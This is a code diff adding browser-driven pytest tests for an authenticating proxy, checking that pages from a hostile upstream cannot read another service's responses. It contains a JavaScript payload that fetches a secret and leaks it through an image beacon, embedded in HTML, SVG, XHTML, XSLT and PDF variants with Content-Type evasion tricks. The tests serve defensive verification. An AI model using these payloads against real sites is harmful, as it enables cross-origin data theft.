@@ -4,6 +4,7 @@ gets anything from it. The first tests are of the browser alone: that what
 others build on it is there."""
 
 import json
+import time
 from urllib.parse import parse_qs
 
 import pytest
@@ -157,6 +158,81 @@ def test_page_by_path_is_sandboxed(chromium, proxy, pages):
     assert any("sandboxed" in line for line in chromium.console())
     assert pages_asked_for(pages) == ["GET /page"]
     assert pages.requests[0].value("Authorization") == "Bearer fixed-token"
+
+
+THIEF = """
+fetch('/b/secret').then(reply => reply.text()).then(
+    text => { new Image().src = '/a/told?' + encodeURIComponent(text); })"""
+HTML = f"<!doctype html><title>t</title><script>{THIEF}</script>"
+XHTML = ("<html xmlns='http://www.w3.org/1999/xhtml'><script><![CDATA["
+         f"{THIEF}]]></script></html>")
+SVG = ("<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA["
+       f"{THIEF}]]></script></svg>")
+XSLT = ("<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='style'?><x/>")
+STYLE = ("<xsl:stylesheet version='1.0' "
+         "xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
+         "<xsl:template match='/'><html><script>"
+         f"{THIEF.replace('&', '&amp;').replace('>', '&gt;')}"
+         "</script></html></xsl:template></xsl:stylesheet>")
+PDF = "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
+PARTS = f"--b\r\nContent-Type: text/html\r\n\r\n{HTML}\r\n--b--\r\n"
+# What a service answers: a name, its fields, the content, and whether a script
+# in it runs where nothing keeps it from that.
+KINDS = {
+    "html": (["Content-Type: text/html"], HTML, True),
+    "none": ([], HTML, True),
+    "empty": (["Content-Type:"], HTML, True),
+    "unknown": (["Content-Type: unknown/unknown"], HTML, True),
+    "plain": (["Content-Type: text/plain"], HTML, False),
+    "svg": (["Content-Type: image/svg+xml"], SVG, True),
+    "xml": (["Content-Type: text/xml"], XHTML, True),
+    "xhtml": (["Content-Type: application/xhtml+xml"], XHTML, True),
+    "xslt": (["Content-Type: application/xml"], XSLT, True),
+    "pdf": (["Content-Type: application/pdf"], PDF, False),
+    "twice": (["Content-Type: text/plain", "Content-Type: text/html"], HTML, True),
+    "list": (["Content-Type: text/plain, text/html"], HTML, True),
+    "parts": (["Content-Type: multipart/x-mixed-replace; boundary=b"], PARTS, False),
+    "open": (["Content-Type: text/html", "Content-Security-Policy: sandbox "
+              "allow-scripts allow-same-origin"], HTML, True),
+}
+
+
+def thief(peer):
+    """A service that wants to know what others answer."""
+    while True:
+        request = peer.read_request()
+        name = request.target.rpartition("/")[2].partition("?")[0]
+        fields, content, _ = KINDS.get(name, ([], "", False))
+        if name == "style":
+            fields, content = ["Content-Type: text/xsl"], STYLE
+        peer.answer(content.encode(), "200 OK", *fields)
+
+
+def told(server) -> list[str]:
+    return [r.target for r in server.requests if "told?" in r.target]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_pages_beyond_loopback(chromium, bearerd, upstream, web, kind):
+    """By plain http, at a name that is not loopback's to the browser, it says
+    nothing of what it asks for: whatever a service answers there, a script in
+    it does not run, let alone read another service's answers."""
+    attacker = upstream(thief)
+    victim = web({"/secret": "the other service's"})
+    proxy = bearerd({"a": static(attacker.url, match="*.a.test"),
+                     "b": static(victim.url, match="b.test")},
+                    {"own_names": "proxy.test"})
+    chromium.open(f"http://proxy.test:{proxy.port}/a/{kind}")
+    assert not [f for r in attacker.requests for f in r.values("Sec-Fetch-Dest")]
+    wait_for(lambda: any(r.target.endswith(kind) for r in attacker.requests), 10,
+             "the page's request")
+    time.sleep(0.3)  # as long as a script would need
+    # The same at a name of its own, as long as it takes for a script to tell.
+    chromium.open(f"http://x.a.test:{proxy.port}/a/{kind}")
+    if KINDS[kind][2]:
+        wait_for(lambda: told(attacker), 10, "the script at its own name")
+    assert not [one for one in told(attacker) if "other" in one], told(attacker)
+    assert victim.requests == []
 
 
 def test_page_under_its_own_name_is_not(chromium, proxy, pages):
